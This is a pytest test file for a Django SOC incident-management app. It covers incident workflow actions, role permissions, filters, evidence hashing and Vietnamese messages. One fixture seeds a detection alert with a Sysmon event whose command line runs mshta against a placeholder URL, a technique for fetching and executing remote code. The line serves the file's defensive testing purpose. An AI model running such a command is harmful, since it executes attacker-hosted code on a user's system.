"""The analysts' incident pages: every action, who may take it, and the pages that read."""

from __future__ import annotations

import datetime as dt
import hashlib
from collections.abc import Callable
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone

from tests.accounts import current_vinh_yen, login_verified
from tests.soc.incidents.support import BASE_TIME, finding_for, make_event, make_source
from tinhso.core.models import AuditEvent, Role
from tinhso.soc.incidents.alerts import raise_alerts
from tinhso.soc.models import Alert, Incident, IncidentEvidence, IncidentNote, IncidentStatus

pytestmark = pytest.mark.django_db


@pytest.fixture
def users(make_user: Callable[..., Any]) -> dict[str, Any]:
    return {
        "analyst": make_user("phantich", Role.SECURITY_ANALYST, first_name="Minh", last_name="Lê"),
        "analyst2": make_user("phantich2", Role.SECURITY_ANALYST),
        "leader": make_user("lanhdao", Role.PROVINCIAL_LEADER),
        "commune": make_user("canbo-xa", Role.COMMUNE_OFFICER, unit=current_vinh_yen()),
    }


@pytest.fixture
def incident() -> Incident:
    source = make_source(host="WS-KT-07")
    event = make_event(
        source,
        fields={
            "EventID": "1",
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Image": "C:\\Windows\\System32\\mshta.exe",
            "CommandLine": "mshta http://example.invalid/a.hta",
        },
    )
    raise_alerts(
        [
            finding_for(
                event,
                "rule-mshta",
                "high",
                tags=("attack.execution", "attack.defense-evasion", "attack.t1218.005"),
                title="Remotely Hosted HTA File Executed Via Mshta.EXE",
            )
        ]
    )
    return Incident.objects.get()


def client_of(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def url(incident: Incident, action: str = "") -> str:
    return f"/soc/incidents/{incident.pk}/{action + '/' if action else ''}"


def status_of(incident: Incident) -> str:
    incident.refresh_from_db()
    return incident.status


# --- Reading -------------------------------------------------------------------------------------


def test_detail_shows_alert_events_and_attack(users: dict[str, Any], incident: Incident) -> None:
    response = client_of(users["leader"]).get(url(incident))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Remotely Hosted HTA File Executed Via Mshta.EXE" in html
    assert "WS-KT-07" in html
    assert "mshta http://example.invalid/a.hta" in html
    assert "T1218.005" in html
    assert "Mshta" in html  # the technique's ATT&CK name
    assert 'data-testid="acknowledge-form"' not in html  # leaders read only


def test_detail_explains_anomaly(users: dict[str, Any]) -> None:
    event = make_event(make_source())
    raise_alerts(
        [
            finding_for(
                event,
                "logon-hour",
                kind="anomaly",
                explanation={"key": "k1", "baseline": "08:00–17:00", "observed": "03:12"},
            )
        ]
    )
    incident = Incident.objects.get()
    response = client_of(users["analyst"]).get(url(incident), HTTP_ACCEPT_LANGUAGE="en")
    html = response.content.decode()
    assert "03:12" in html
    assert "08:00–17:00" in html
    assert 'data-testid="explanation"' in html


def test_list_filters_and_empty_state(users: dict[str, Any], incident: Incident) -> None:
    client = client_of(users["analyst"])
    assert f"#{incident.pk} " in client.get("/soc/incidents/").content.decode()
    assert (
        f"#{incident.pk} "
        in client.get("/soc/incidents/?severity=high&host=kt-07&status=open").content.decode()
    )
    filtered = client.get("/soc/incidents/?severity=low").content.decode()
    assert f"#{incident.pk} " not in filtered
    assert 'data-testid="empty"' in filtered
    by_rule = client.get("/soc/incidents/?rule=hta+file").content.decode()
    assert f"#{incident.pk} " in by_rule
    agency = incident.agency
    assert agency is not None
    by_agency = client.get(f"/soc/incidents/?agency={agency.pk}").content.decode()
    assert f"#{incident.pk} " in by_agency
    other_rule = client.get("/soc/incidents/?rule=no-such-rule").content.decode()
    assert f"#{incident.pk} " not in other_rule
    # The dates select when the incident was opened (today), not its events (20/11/2026).
    today = timezone.localdate()
    tomorrow = (today + dt.timedelta(days=1)).strftime("%d/%m/%Y")
    later = client.get(f"/soc/incidents/?date_from={tomorrow}").content.decode()
    assert f"#{incident.pk} " not in later
    opened_today = client.get(f"/soc/incidents/?date_from={today:%d/%m/%Y}&date_to={today}")
    assert f"#{incident.pk} " in opened_today.content.decode()
    event_day = client.get("/soc/incidents/?date_from=20/11/2026&date_to=20/11/2026")
    assert f"#{incident.pk} " not in event_day.content.decode()


def test_list_sorts_by_severity(users: dict[str, Any], incident: Incident) -> None:
    low = make_event(make_source(host="WS-02"), time=BASE_TIME + dt.timedelta(hours=3))
    raise_alerts([finding_for(low, "rule-low", "low")])
    html = client_of(users["analyst"]).get("/soc/incidents/?sort=severity").content.decode()
    assert html.index(f"#{incident.pk} ") < html.index("Rule rule-low")


def test_alert_list_and_dashboard(users: dict[str, Any], incident: Incident) -> None:
    client = client_of(users["leader"])
    alerts = client.get("/soc/alerts/?severity=high").content.decode()
    assert "Remotely Hosted HTA" in alerts
    dashboard = client.get("/soc/?days=7")
    assert dashboard.status_code == 200
    html = dashboard.content.decode()
    assert 'data-technique="T1218.005"' in html
    # The rule also names Execution, but ATT&CK puts T1218.005 under Defense Evasion only.
    assert 'data-tactic="defense-evasion"' in html
    assert 'data-tactic="execution"' not in html
    assert "WS-KT-07" in html


# --- Acting --------------------------------------------------------------------------------------


def test_acknowledge_sets_time_and_logs(users: dict[str, Any], incident: Incident) -> None:
    response = client_of(users["analyst"]).post(url(incident, "acknowledge"), {"ack-note": "xem"})
    assert response.status_code == 302
    incident.refresh_from_db()
    assert incident.status == IncidentStatus.ACKNOWLEDGED
    assert incident.acknowledged_at is not None
    assert incident.assignee == users["analyst"]
    assert IncidentNote.objects.filter(incident=incident, action="acknowledged").count() == 1
    row = AuditEvent.objects.get(object_type="soc.incident", extra__action="acknowledged")
    assert row.actor == users["analyst"]
    assert row.before["status"] == "new"
    assert row.after["status"] == "acknowledged"


def test_acknowledge_twice_conflicts(users: dict[str, Any], incident: Incident) -> None:
    client = client_of(users["analyst"])
    client.post(url(incident, "acknowledge"))
    response = client.post(url(incident, "acknowledge"))
    assert response.status_code == 409
    assert 'data-testid="action-error"' in response.content.decode()


def test_htmx_action_returns_fragment(users: dict[str, Any], incident: Incident) -> None:
    response = client_of(users["analyst"]).post(
        url(incident, "acknowledge"), HTTP_HX_REQUEST="true"
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert 'data-testid="incident-workflow"' in html
    assert "<html" not in html


def test_assign_to_analyst_only(users: dict[str, Any], incident: Incident) -> None:
    client = client_of(users["analyst"])
    response = client.post(url(incident, "assign"), {"assign-assignee": users["analyst2"].pk})
    assert response.status_code == 302
    incident.refresh_from_db()
    assert incident.assignee == users["analyst2"]
    assert IncidentNote.objects.filter(incident=incident, action="assigned").count() == 1

    refused = client.post(url(incident, "assign"), {"assign-assignee": users["leader"].pk})
    assert refused.status_code == 400
    incident.refresh_from_db()
    assert incident.assignee == users["analyst2"]


def test_comment_needs_text(users: dict[str, Any], incident: Incident) -> None:
    client = client_of(users["analyst"])
    assert client.post(url(incident, "comment"), {"note-note": ""}).status_code == 400
    assert client.post(url(incident, "comment"), {"note-note": "Đã cô lập máy"}).status_code == 302
    note = IncidentNote.objects.get(incident=incident, action="comment")
    assert note.text == "Đã cô lập máy"
    assert note.author == users["analyst"]
    assert AuditEvent.objects.filter(object_type="soc.incidentnote").count() == 1


def test_resolve_needs_resolution_and_note(users: dict[str, Any], incident: Incident) -> None:
    client = client_of(users["analyst"])
    missing = client.post(url(incident, "resolve"), {"resolve-resolution": "false_positive"})
    assert missing.status_code == 400
    assert 'data-testid="errors-resolve-note"' in missing.content.decode()
    assert status_of(incident) == IncidentStatus.NEW

    done = client.post(
        url(incident, "resolve"),
        {"resolve-resolution": "true_positive", "resolve-note": "Gỡ tệp HTA, đổi mật khẩu"},
    )
    assert done.status_code == 302
    incident.refresh_from_db()
    assert incident.status == IncidentStatus.RESOLVED
    assert incident.resolution == "true_positive"
    assert incident.resolution_note == "Gỡ tệp HTA, đổi mật khẩu"
    assert incident.resolved_at is not None
    # Resolving counts as acknowledging when the incident was not acknowledged first.
    assert incident.acknowledged_at == incident.resolved_at


def test_close_and_reopen(users: dict[str, Any], incident: Incident) -> None:
    client = client_of(users["analyst"])
    assert client.post(url(incident, "close")).status_code == 409
    client.post(
        url(incident, "resolve"), {"resolve-resolution": "benign", "resolve-note": "Quản trị viên"}
    )
    assert client.post(url(incident, "close"), {"close-note": "Xong"}).status_code == 302
    incident.refresh_from_db()
    assert incident.status == IncidentStatus.CLOSED
    assert incident.closed_at is not None

    assert client.post(url(incident, "reopen"), {"reopen-note": ""}).status_code == 400
    assert client.post(url(incident, "reopen"), {"reopen-note": "Tái diễn"}).status_code == 302
    incident.refresh_from_db()
    assert incident.status == IncidentStatus.ACKNOWLEDGED
    assert incident.closed_at is None
    assert incident.resolved_at is None
    assert incident.resolution == ""
    actions = list(IncidentNote.objects.filter(incident=incident).values_list("action", flat=True))
    assert actions == ["opened", "resolved", "closed", "reopened"]


def test_evidence_upload_hash_and_download(
    users: dict[str, Any], incident: Incident, settings: Any, tmp_path: Any
) -> None:
    settings.MEDIA_ROOT = tmp_path
    content = "Nhật ký tường lửa 20/11\n".encode() * 100
    client = client_of(users["analyst"])
    upload = SimpleUploadedFile("tuong-lua.log", content, content_type="text/plain")
    response = client.post(
        url(incident, "evidence"), {"evidence-file": upload, "evidence-description": "Bản sao"}
    )
    assert response.status_code == 302

    evidence = IncidentEvidence.objects.get()
    digest = hashlib.sha256(content).hexdigest()
    assert evidence.sha256 == digest
    assert evidence.size == len(content)
    assert evidence.name == "tuong-lua.log"
    assert digest in client.get(url(incident)).content.decode()

    download = client.get(f"{url(incident)}evidence/{evidence.pk}/")
    assert download.status_code == 200
    assert hashlib.sha256(b"".join(download.streaming_content)).hexdigest() == digest  # type: ignore[arg-type]
    assert AuditEvent.objects.filter(object_type="soc.incidentevidence").count() == 2


def test_evidence_over_limit_rejected(
    users: dict[str, Any], incident: Incident, settings: Any, tmp_path: Any
) -> None:
    settings.MEDIA_ROOT = tmp_path
    settings.TINHSO_SOC_EVIDENCE_MAX_BYTES = 100
    upload = SimpleUploadedFile("lon.bin", b"x" * 101)
    response = client_of(users["analyst"]).post(
        url(incident, "evidence"), {"evidence-file": upload}
    )
    assert response.status_code == 400
    assert 'data-testid="errors-evidence-file"' in response.content.decode()
    assert IncidentEvidence.objects.count() == 0


ACTIONS = {
    "acknowledge": {},
    "assign": {"assign-assignee": "0"},
    "comment": {"note-note": "x"},
    "resolve": {"resolve-resolution": "benign", "resolve-note": "x"},
    "close": {},
    "reopen": {"reopen-note": "x"},
    "evidence": {},
}


@pytest.mark.parametrize("action", sorted(ACTIONS))
def test_leader_and_officer_may_not_act(
    users: dict[str, Any], incident: Incident, action: str
) -> None:
    data = dict(ACTIONS[action])
    if action == "assign":
        data["assign-assignee"] = str(users["analyst"].pk)
    for role in ("leader", "commune"):
        response = client_of(users[role]).post(url(incident, action), data)
        assert response.status_code == 403, role
    anonymous = Client().post(url(incident, action), data)
    assert anonymous.status_code == 302
    assert anonymous["Location"].startswith("/login/")
    assert status_of(incident) == IncidentStatus.NEW
    assert IncidentNote.objects.filter(incident=incident).exclude(action="opened").count() == 0


def test_commune_officer_may_not_read(users: dict[str, Any], incident: Incident) -> None:
    client = client_of(users["commune"])
    for path in ("/soc/", "/soc/incidents/", url(incident), "/soc/alerts/", "/soc/reports/"):
        assert client.get(path).status_code == 403, path


def test_get_on_action_not_allowed(users: dict[str, Any], incident: Incident) -> None:
    assert client_of(users["analyst"]).get(url(incident, "acknowledge")).status_code == 405


def test_admin_acts_after_second_factor(make_user: Callable[..., Any], incident: Incident) -> None:
    admin = make_user("quantri", Role.SYSTEM_ADMINISTRATOR, is_staff=True, is_superuser=True)
    client = Client()
    login_verified(client, admin)
    assert client.post(url(incident, "acknowledge")).status_code == 302
    assert status_of(incident) == IncidentStatus.ACKNOWLEDGED
    assert Alert.objects.get().incident_id == incident.pk


def test_explanation_numbers_localised() -> None:
    from django.utils import translation

    from tinhso.soc.incidents.views import explanation_text

    alert = Alert(explanation={"key": "k", "observed": 14, "baseline": 0.25, "distance": 3.5})
    with translation.override("vi"):
        text = explanation_text(alert)
    assert "14" in text
    assert "0,25" in text
    assert "3,50" in text


# --- Filters, navigation and confirmations -------------------------------------------------------


def test_list_reports_invalid_filters(users: dict[str, Any], incident: Incident) -> None:
    client = client_of(users["analyst"])
    response = client.get("/soc/incidents/?date_from=banana&severity=bogus&host=kt-07")
    html = response.content.decode()
    assert response.status_code == 200
    assert 'data-testid="filter-errors"' in html
    assert "Nhập một ngày hợp lệ." in html  # Django's own Vietnamese message
    assert "bogus" in html
    # The valid host filter still applies; the invalid ones are dropped.
    assert f"#{incident.pk} " in html
    assert (
        f"#{incident.pk} "
        not in client.get("/soc/incidents/?host=zz&severity=bogus").content.decode()
    )


def test_list_reports_reversed_range(users: dict[str, Any], incident: Incident) -> None:
    today = timezone.localdate()
    earlier = today - dt.timedelta(days=3)
    html = (
        client_of(users["analyst"])
        .get(f"/soc/incidents/?date_from={today:%d/%m/%Y}&date_to={earlier:%d/%m/%Y}")
        .content.decode()
    )
    assert 'data-testid="filter-errors"' in html
    assert f"#{incident.pk} " in html  # only the start date applies


def test_list_keeps_last_page(users: dict[str, Any], incident: Incident) -> None:
    response = client_of(users["analyst"]).get("/soc/incidents/?page=999")
    assert response.status_code == 200
    assert f"#{incident.pk} " in response.content.decode()


def test_alert_list_filters_raised_dates(users: dict[str, Any], incident: Incident) -> None:
    client = client_of(users["leader"])
    today = timezone.localdate()
    tomorrow = today + dt.timedelta(days=1)
    raised_today = client.get(f"/soc/alerts/?date_from={today:%d/%m/%Y}&date_to={today:%d/%m/%Y}")
    assert "Remotely Hosted HTA" in raised_today.content.decode()
    later = client.get(f"/soc/alerts/?date_from={tomorrow:%d/%m/%Y}").content.decode()
    assert "Remotely Hosted HTA" not in later
    event_day = client.get("/soc/alerts/?date_to=20/11/2026").content.decode()
    assert "Remotely Hosted HTA" not in event_day


def test_alert_list_reports_invalid_filters(users: dict[str, Any], incident: Incident) -> None:
    html = client_of(users["leader"]).get("/soc/alerts/?severity=bogus&date_from=banana")
    text = html.content.decode()
    assert 'data-testid="filter-errors"' in text
    assert "Nhập một ngày hợp lệ." in text
    assert "Remotely Hosted HTA" in text


def test_filter_labels_name_platform_time(users: dict[str, Any]) -> None:
    client = client_of(users["analyst"])
    incidents = client.get("/soc/incidents/").content.decode()
    alerts = client.get("/soc/alerts/").content.decode()
    assert "Mở từ ngày" in incidents
    assert "Mở đến ngày" in incidents
    assert "Phát sinh từ ngày" in alerts
    assert "Phát sinh đến ngày" in alerts


def test_nav_links_sources_for_analysts(users: dict[str, Any]) -> None:
    analyst = client_of(users["analyst"]).get("/soc/").content.decode()
    assert 'href="/soc/sources/"' in analyst
    assert 'href="/soc/intel/"' in analyst
    leader = client_of(users["leader"]).get("/soc/").content.decode()
    assert 'href="/soc/sources/"' not in leader
    assert 'href="/soc/intel/"' not in leader


@pytest.mark.parametrize("path", ["/soc/sources/", "/soc/intel/"])
def test_analyst_pages_show_soc_nav(users: dict[str, Any], path: str) -> None:
    html = client_of(users["analyst"]).get(path).content.decode()
    assert 'data-testid="soc-nav"' in html
    assert 'href="/soc/incidents/"' in html


def test_htmx_action_shows_notice(users: dict[str, Any], incident: Incident) -> None:
    response = client_of(users["analyst"]).post(
        url(incident, "assign"),
        {"assign-assignee": users["analyst"].pk},
        HTTP_HX_REQUEST="true",
        HTTP_ACCEPT_LANGUAGE="en",
    )
    html = response.content.decode()
    assert 'data-testid="action-notice"' in html
    assert "Đã giao xử lý sự cố cho Lê Minh." in html


@pytest.mark.parametrize(
    ("action", "data", "notice"),
    [
        ("acknowledge", {}, "Đã xác nhận sự cố."),
        ("comment", {"note-note": "Đã cô lập máy"}, "Đã thêm ghi chú."),
        ("resolve", {"resolve-resolution": "benign", "resolve-note": "x"}, "Đã xử lý sự cố."),
    ],
)
def test_action_confirms_after_redirect(
    users: dict[str, Any], incident: Incident, action: str, data: dict[str, str], notice: str
) -> None:
    client = client_of(users["analyst"])
    response = client.post(url(incident, action), data, HTTP_ACCEPT_LANGUAGE="en", follow=True)
    assert response.redirect_chain[-1][1] == 302
    assert notice in response.content.decode()


def test_close_and_reopen_confirm(users: dict[str, Any], incident: Incident) -> None:
    client = client_of(users["analyst"])
    client.post(url(incident, "resolve"), {"resolve-resolution": "benign", "resolve-note": "x"})
    closed = client.post(url(incident, "close"), HTTP_ACCEPT_LANGUAGE="en", follow=True)
    assert "Đã đóng sự cố." in closed.content.decode()
    reopened = client.post(
        url(incident, "reopen"), {"reopen-note": "Tái diễn"}, HTTP_ACCEPT_LANGUAGE="en", follow=True
    )
    assert "Đã mở lại sự cố." in reopened.content.decode()


def test_evidence_shows_uploader_full_name(
    users: dict[str, Any], incident: Incident, settings: Any, tmp_path: Any
) -> None:
    settings.MEDIA_ROOT = tmp_path
    client = client_of(users["analyst"])
    upload = SimpleUploadedFile("a.log", b"abc", content_type="text/plain")
    client.post(url(incident, "evidence"), {"evidence-file": upload})
    html = client.get(url(incident)).content.decode()
    table = html[html.index('data-testid="evidence"') : html.index('data-testid="activity"')]
    assert "Lê Minh" in table
    assert "phantich" not in table
